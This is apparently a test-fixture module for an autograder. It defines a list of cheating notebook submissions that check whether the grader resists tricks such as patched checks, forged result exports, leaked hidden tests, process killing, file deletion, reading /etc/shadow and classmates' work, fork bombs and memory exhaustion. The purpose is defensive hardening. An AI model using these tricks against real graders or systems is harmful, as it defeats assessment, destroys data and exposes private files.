"""Submissions that cheat, one per class of trick, for tests/test_cheats.py.

Each is the blank release of an assignment with the trick's code as the first answer (and, for some, files
beside the notebook): no answer is right, so every autograded point it gets is the trick's. Placeholders
in the code name what a cheat would go for: ``@COURSE@`` (the course root), ``@GRADEBOOK@``, ``@VICTIM@`` (a
classmate's submitted notebook), ``@CANARY@`` (a file of the grader's outside the course); :func:`fill` puts
the paths in.

:data:`GAINS_UNDER_STOCK` are the tricks that take points from stock nbgrader (which runs the tests in the
student's kernel), and :data:`LEAKS_UNDER_STOCK` those that print hidden tests there: the tests grade them
under stock nbgrader too, to show that each one is a real attack.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field

from grading_fixtures import grade_id


@dataclass
class Cheat:
    name: str
    code: str
    files: dict = field(default_factory=dict)  # relative path -> text, or ("link", target)


FORGED = ('{"answers": {"gp_sizes": {"t": "function"}, "separate": {"t": "function"}, '
          '"pooled_slope": {"t": "ndarray", "dtype": "object", "shape": [1], "data": [1]}}}')
MIME = "application/x.random-effects-course.answers"
# A helpers package beside the notebook that is found first (the kernel's folder leads sys.path) and lends
# the installed one's modules for everything but its own no-op checks.
FAKE_HELPERS = """import os, sys
for _finder in sys.meta_path:
    _spec = None if type(_finder).__name__ == "PathFinder" else getattr(_finder, "find_spec", None)
    _spec = _spec and _spec("helpers", None)
    if _spec and _spec.submodule_search_locations:
        __path__.extend(_spec.submodule_search_locations)
__path__.extend(os.path.join(p, "helpers") for p in sys.path[1:] if os.path.isdir(os.path.join(p, "helpers")))
"""

CHEATS = [
    Cheat("rebind_checks", "check_close = check_frame = check_number = check_series = lambda *args, **kwargs: None"),
    Cheat("replace_code", "import helpers.checks as _checks\n"
                          "for _f in (_checks.check_close, _checks.check_frame, _checks.check_number,\n"
                          "           _checks.check_series):\n"
                          "    _f.__code__ = (lambda *args, **kwargs: None).__code__"),
    Cheat("patch_numpy", "import numpy\nnumpy.allclose = lambda *args, **kwargs: True\n"
                         "numpy.isfinite = lambda *args, **kwargs: numpy.True_"),
    Cheat("helpers_folder", "pass  # the setup cell imports helpers from the folder beside the notebook",
          files={"helpers/__init__.py": FAKE_HELPERS,
                 "helpers/checks.py": "".join(f"def {n}(*args, **kwargs):\n    pass\n" for n in
                                              ("check_close", "check_frame", "check_number", "check_series"))}),
    Cheat("equals_everything", "import pandas as pd\n"
                               "class _Anything(float):\n"
                               "    def __eq__(self, other): return True\n"
                               "    def __ne__(self, other): return False\n"
                               "    def __lt__(self, other): return True\n"
                               "    def __le__(self, other): return True\n"
                               "    def __gt__(self, other): return True\n"
                               "    def __ge__(self, other): return True\n"
                               "    __hash__ = float.__hash__\n"
                               "class _Frame(pd.DataFrame):\n"
                               "    def __eq__(self, other): return True\n"
                               "gp_sizes = pooled_slope = pooled_se = _Anything(0.5)\n"
                               "separate = _Frame({'intercept': [0.0], 'slope': [0.0], 'slope_se': [1.0], 'n': [1]})\n"
                               "separate_fits = lambda *args, **kwargs: separate\n"
                               "pooled_se_check = lambda *args, **kwargs: {'mean_se': _Anything(0.5),\n"
                               "    'sd_slope': _Anything(0.5), 'coverage': _Anything(0.5)}"),
    Cheat("ast_transformer", "import ast\n"
                             "class _Forgive(ast.NodeTransformer):\n"
                             "    def visit_Module(self, node):\n"
                             "        handler = ast.ExceptHandler(type=ast.Name('BaseException', ast.Load()),\n"
                             "                                    name=None, body=[ast.Pass()])\n"
                             "        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler],\n"
                             "                             orelse=[], finalbody=[])]\n"
                             "        return ast.fix_missing_locations(node)\n"
                             "get_ipython().ast_transformers.append(_Forgive())"),
    Cheat("input_transformer", "def _blank(lines):\n"
                               "    text = ''.join(lines)\n"
                               "    return ['pass\\n'] if 'check_' in text or 'exec(' in text else lines\n"
                               "get_ipython().input_transformers_cleanup.append(_blank)"),
    Cheat("run_cell_hooks", "from IPython.display import display\n"
                            "get_ipython().events.register('pre_run_cell', lambda *args: display(1.0))\n"
                            "get_ipython().events.register('post_run_cell', lambda *args: display(1.0))"),
    Cheat("do_execute", "_kernel = get_ipython().kernel\n"
                        "_original = _kernel.do_execute\n"
                        "def _skip(code, *args, **kwargs):\n"
                        "    return _original('pass' if 'check_' in code or 'exec(' in code else code, *args, **kwargs)\n"
                        "_kernel.do_execute = _skip"),
    Cheat("leak_sources", "import sys\n"
                          "def _show_cell(info):\n"
                          "    print('NEXT CELL:', info.raw_cell)\n"
                          "def _show_values(result):\n"
                          "    for _k, _v in list(globals().items()):\n"
                          "        if _k.startswith('_') and not _k.startswith('__'):\n"
                          "            print('VALUE', _k, repr(_v)[:500])\n"
                          "def _watch(frame, event, arg):\n"
                          "    if event == 'return' and frame.f_code.co_name == '<module>':\n"
                          "        for _k, _v in list(frame.f_locals.items()):\n"
                          "            if _k.startswith('_') and not _k.startswith('__'):\n"
                          "                sys.__stdout__.write(f'LOCAL {_k} {repr(_v)[:500]}\\n')\n"
                          "                print('LOCAL', _k, repr(_v)[:500])\n"
                          "get_ipython().events.register('pre_run_cell', _show_cell)\n"
                          "get_ipython().events.register('post_run_cell', _show_values)\n"
                          "sys.setprofile(_watch)"),
    Cheat("background_printer", "import threading, time\n"
                                "def _loop():\n"
                                "    while True:\n"
                                "        print({k: repr(v)[:200] for k, v in list(globals().items()) if k.startswith('_')})\n"
                                "        time.sleep(0.05)\n"
                                "threading.Thread(target=_loop, daemon=True).start()"),
    Cheat("fake_exports", "from IPython.display import publish_display_data\n"
                          f"_forged = {FORGED!r}\n"
                          f"publish_display_data({{{MIME!r}: _forged}})\n"
                          f"get_ipython().events.register('pre_run_cell', lambda *a: publish_display_data({{{MIME!r}: _forged}}))"),
    Cheat("forged_export", "import IPython.display as _display\n"
                           "_real = _display.publish_display_data\n"
                           f"_display.publish_display_data = lambda data, *a, **k: _real({{key: {FORGED!r} for key in data}})"),
    Cheat("patch_json", f"import json\njson.dumps = lambda *args, **kwargs: {FORGED!r}"),
    Cheat("sys_modules", "import sys, types\n"
                         "_fake = types.ModuleType('helpers.checks')\n"
                         "for _n in ('check_close', 'check_frame', 'check_number', 'check_series'):\n"
                         "    setattr(_fake, _n, lambda *args, **kwargs: None)\n"
                         "sys.modules['helpers.checks'] = _fake\n"
                         "sys.modules['numpy'] = types.ModuleType('numpy')\n"
                         "sys.modules['json'] = types.ModuleType('json')"),
    Cheat("huge_output", "for _ in range(150):\n    print('x' * 2_000_000)"),
    Cheat("odd_exceptions", "class _Odd(BaseException):\n"
                            "    def __str__(self):\n"
                            "        raise RuntimeError('no message for you')\n"
                            "def separate_fits(*args, **kwargs):\n    raise _Odd()\n"
                            "def pooled_se_check(*args, **kwargs):\n    raise SystemExit(0)\n"
                            "gp_sizes = separate_fits\n"
                            "raise _Odd()"),
    Cheat("kill_everything", "import os, signal\n"
                             "for _pid in (os.getppid(), 1):\n"
                             "    try:\n        os.kill(_pid, signal.SIGKILL)\n    except OSError:\n        pass\n"
                             "os.kill(-1, signal.SIGKILL)"),
    Cheat("delete_files", "import glob, os, shutil\n"
                          "_targets = ['@GRADEBOOK@', '@VICTIM@', '@CANARY@', '@COURSE@/source', '@COURSE@/submitted',\n"
                          "            *glob.glob('../../../*'), *glob.glob('../../*'), *glob.glob('/tmp/*')]\n"
                          "for _t in _targets:\n"
                          "    try:\n"
                          "        shutil.rmtree(_t) if os.path.isdir(_t) and not os.path.islink(_t) else os.remove(_t)\n"
                          "        print('DELETED', _t)\n"
                          "    except Exception as error:\n"
                          "        print('kept', _t, type(error).__name__)"),
    Cheat("read_secrets", "import glob\n"
                          "for _pattern in ['@COURSE@/source/*/*.ipynb', '@GRADEBOOK@', '../../../source/*/*.ipynb',\n"
                          "                 '../../../gradebook.db', '@VICTIM@', '/etc/shadow', '*.ipynb']:\n"
                          "    for _path in glob.glob(_pattern):\n"
                          "        try:\n"
                          "            print(open(_path, errors='replace').read()[:200000])\n"
                          "        except OSError as error:\n"
                          "            print('blocked', _path, type(error).__name__)"),
    Cheat("symlinks", "import os\n"
                      "for _name in ('classmate.ipynb', 'source_link', 'root_link'):\n"
                      "    try:\n"
                      "        print(_name, os.listdir(_name) if os.path.isdir(_name) else open(_name).read()[:100000])\n"
                      "    except OSError as error:\n"
                      "        print('blocked', _name, type(error).__name__)",
          files={"classmate.ipynb": ("link", "@VICTIM@"), "source_link": ("link", "@COURSE@/source"),
                 "root_link": ("link", "/")}),
    Cheat("runaway", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
    Cheat("fork_bomb", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
    Cheat("memory_hogs", "import os\nfor _ in range(4):\n    if os.fork() == 0:\n"
                         "        _hog = bytearray(1024 * 2**20)\n        _hog[::4096] = b'x' * len(_hog[::4096])\n"
                         "        import time; time.sleep(60)\n"
                         "_mine = bytearray(8 * 2**30)"),
]

GAINS_UNDER_STOCK = ["rebind_checks", "replace_code", "helpers_folder", "ast_transformer", "run_cell_hooks",
                     "do_execute", "input_transformer"]
LEAKS_UNDER_STOCK = ["leak_sources"]


def cheating(release_nb, cheat: Cheat, places: dict):
    """The release with ``cheat``'s code as its first answer."""
    nb = copy.deepcopy(release_nb)
    first = next(c for c in nb.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution")
                 and grade_id(c))
    first.source = fill(cheat.code, places)
    return nb


def fill(text: str, places: dict) -> str:
    for name, value in places.items():
        text = text.replace(f"@{name.upper()}@", str(value))
    return text


def write_files(folder, cheat: Cheat, places: dict) -> None:
    for name, content in cheat.files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, tuple):
            path.symlink_to(fill(content[1], places))
        else:
            path.write_text(content)
